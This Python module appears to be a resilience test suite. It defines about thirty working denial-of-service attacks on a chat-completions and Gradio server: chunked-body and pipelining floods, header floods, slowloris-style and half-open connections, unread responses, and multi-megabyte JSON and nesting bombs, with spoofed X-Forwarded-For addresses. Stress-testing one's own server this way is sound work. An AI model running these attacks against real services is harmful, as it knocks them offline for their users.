"""Requests that try to block a server, over plain sockets.

Each attack stays within the limits of one visitor, or of as many visitors as its name says. Their
X-Forwarded-For differs, so the server has to trust this machine as its proxy.
"""

from __future__ import annotations

import asyncio
import json
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

CHAT, JOIN = "/v1/chat/completions", "/gradio_api/queue/join"
READ_S = 20.0  # for an answer
HOLD_S = 0.5


@dataclass(frozen=True, slots=True)
class Target:
    """A server, and who attacks it."""

    host: str
    port: int
    visitor: int = 0

    def as_visitor(self, number: int) -> Target:
        return Target(self.host, self.port, self.visitor + number)

    def head(self, method: str, path: str, *more: str) -> bytes:
        forwarded = f"X-Forwarded-For: 198.18.{self.visitor // 250}.{self.visitor % 250 + 1}"
        lines = (f"{method} {path} HTTP/1.1", "Host: x", forwarded, *more)
        return "\r\n".join((*lines, "\r\n")).encode()

    async def send(self, *parts: bytes, read_s: float = READ_S) -> str:
        """The status of the answer, or what came instead."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        reading = asyncio.create_task(_status(reader))
        try:
            with suppress(ConnectionError):
                for part in parts:
                    writer.write(part)
                    await writer.drain()
            async with asyncio.timeout(read_s):
                return await reading
        except TimeoutError:
            return "silence"
        finally:
            reading.cancel()
            writer.close()

    async def post(self, path: str, body: bytes) -> str:
        more = ("Content-Type: application/json", f"Content-Length: {len(body)}")
        return await self.send(self.head("POST", path, *more), body)

    async def post_chunks(self, path: str, chunks: bytes) -> str:
        more = ("Content-Type: application/json", "Transfer-Encoding: chunked")
        return await self.send(self.head("POST", path, *more), chunks)


async def _status(reader: asyncio.StreamReader) -> str:
    try:
        line = await reader.readline()
    except ConnectionError:
        return "reset"
    return line.split()[1].decode() if line.count(b" ") else "closed"


Act = Callable[[Target], Awaitable[str]]


@dataclass(frozen=True, slots=True)
class Attack:
    """`run` returns the answers. A `quick` attack shows in seconds whether the loop is blocked."""

    name: str
    run: Act
    is_quick: bool = False


def _several(count: int, act: Callable[[Target], Awaitable[str]]) -> Act:
    """`count` of them at the same time, by one visitor."""

    async def run(target: Target) -> str:
        answers = Counter(await asyncio.gather(*(act(target) for _ in range(count))))
        return ", ".join(f"{number} x {answer}" for answer, number in sorted(answers.items()))

    return run


def _chunks(path: str, chunk: bytes, count: int) -> Act:
    return lambda target: target.post_chunks(path, chunk * count)


async def _pipelined(target: Target) -> str:
    return await target.send(target.head("GET", "/health") * 20_000)


async def _headers(target: Target) -> str:
    return await target.send(target.head("GET", "/health", *(["a:b"] * 3_000)))


async def _upgrade(target: Target) -> str:
    offer = ("Connection: Upgrade", "Upgrade: websocket")
    return await target.send(target.head("GET", "/health", *offer))


async def _garbage(target: Target) -> str:
    return await target.send(b"\x16\x03\x01" + b"nonsense\r\n" * 1_000)


async def _crumbs(target: Target) -> str:
    """A packet for each byte of a body."""
    head = target.head("POST", CHAT, "Content-Type: application/json", "Content-Length: 100000")
    reader, writer = await asyncio.open_connection(target.host, target.port)
    writer.write(head)
    with suppress(ConnectionError):
        for _ in range(2_000):
            writer.write(b" ")
            await asyncio.sleep(0.001)
            if reader.at_eof():
                break
    writer.close()
    return "left"


def _heartbeats(num_visitors: int, num_pages: int) -> Act:
    """Pages that nobody opened, and that all close in the same moment."""

    async def run(target: Target) -> str:
        writers = []
        for number in range(num_visitors * num_pages):
            visitor = target.as_visitor(number // num_pages)
            _, writer = await asyncio.open_connection(target.host, target.port)
            writer.write(visitor.head("GET", f"/gradio_api/heartbeat/h{number}"))
            writers.append(writer)
        await asyncio.sleep(HOLD_S)
        for writer in writers:
            writer.transport.abort()
        return "closed"

    return run


async def _half_open(target: Target) -> str:
    writers = []
    for _ in range(1_000):
        _, writer = await asyncio.open_connection(target.host, target.port)
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHo")
        writers.append(writer)
    await asyncio.sleep(HOLD_S)
    for writer in writers:
        writer.transport.abort()
    return "closed"


async def _slow_readers(target: Target) -> str:
    """A hundred answers of 100 kB and more that nobody reads."""

    async def hold() -> str:
        _, writer = await asyncio.open_connection(target.host, target.port, limit=1_024)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(target.head("GET", "/config") * 8)
        await asyncio.sleep(4 * HOLD_S)
        writer.transport.abort()
        return "left"

    return await _several(100, lambda _: hold())(target)


def _json(**body: object) -> bytes:
    return json.dumps(body).encode()


def _said(text: str) -> bytes:
    return _json(messages=[{"role": "user", "content": text}], max_tokens=1)


def _joined(count: int, value: bytes) -> bytes:
    return b'{"data":[' + value * count + b'0],"fn_index":0,"session_hash":"q"}'


def _fields(count: int) -> bytes:
    return b"{" + b",".join(b'"%d":0' % number for number in range(count)) + b"}"


def _page(body: Callable[[], bytes]) -> Act:
    return lambda target: target.post(JOIN, body())


def _chat(body: Callable[[], bytes]) -> Act:
    return lambda target: target.post(CHAT, body())


def _objects() -> bytes:
    return b'{"messages":[' + b"{}," * 5_000_000 + b"{}]}"


def _empty_texts() -> bytes:
    return b'{"stop":[' + b'"",' * 5_000_000 + b'""]}'


async def _ids(target: Target) -> str:
    return await target.post("/v1/completions", b'{"prompt":[' + b"1," * 8_000_000 + b"1]}")


EMOJI = "😀".encode()
ONE_BYTE, A_LINE = b"1\r\n \r\n", b"18\r\n" + b" " * 24 + b"\r\n"
ATTACKS = (
    Attack("300,000 chunks of a byte, to chat", _chunks(CHAT, ONE_BYTE, 300_000), True),
    Attack("the same to /health", _chunks("/health", ONE_BYTE, 300_000)),
    Attack("8 x 100,000 chunks of a byte", _several(8, _chunks(CHAT, ONE_BYTE, 100_000)), True),
    Attack("8 x 50,000 chunks of 24 bytes", _several(8, _chunks(CHAT, A_LINE, 50_000))),
    Attack("20,000 requests ahead of answers", _pipelined, True),
    Attack("100 heads of 3,000 headers", _several(100, _headers), True),
    Attack("200 offered upgrades", _several(200, _upgrade)),
    Attack("200 times no HTTP", _several(200, _garbage), True),
    Attack("50 bodies, a packet a byte", _several(50, _crumbs)),
    Attack("99 heartbeats opened and closed", _heartbeats(1, 99), True),
    Attack("990 heartbeats of 10 visitors", _heartbeats(10, 99)),
    Attack("1,000 half-open connections", _half_open),
    Attack("100 readers that do not read", _slow_readers),
    Attack("page: 15 MB of {}", _page(lambda: _joined(5_000_000, b"{},"))),
    Attack("page: 4 x 4 MB of {}", _several(4, _page(lambda: _joined(1_330_000, b"{},"))), True),
    Attack("page: 4 MB of text", _page(lambda: _joined(1, b'"' + b"a" * 4_000_000 + b'",'))),
    Attack("page: 4 MB of escapes", _page(lambda: _joined(1, b'"' + b"\\u00e9" * 666_000 + b'",'))),
    Attack("page: 4 MB of quotes", _page(lambda: _joined(1, b'"' + b'\\"' * 1_990_000 + b'",'))),
    Attack("page: 4 MB of emoji", _page(lambda: _joined(1, b'"' + EMOJI * 990_000 + b'",'))),
    Attack("API: 15 MB of {}", _chat(_objects), True),
    Attack("API: 16 MB of ids", _ids),
    Attack("API: 200,000 unknown fields", _chat(lambda: _fields(200_000))),
    Attack("API: 16 MB of empty texts", _chat(_empty_texts)),
    Attack("API: 9 MB that look like JSON", _chat(lambda: _said('{"a": [1, 2]}, ' * 500_000))),
    Attack("API: 500,000 brackets deep", _chat(lambda: b"[" * 500_000), True),
    Attack("API: 9 MB of one digit", _chat(lambda: _said("7" * 9_000_000))),
    Attack("API: 9 MB of spaces", _chat(lambda: _said(" " * 9_000_000))),
)
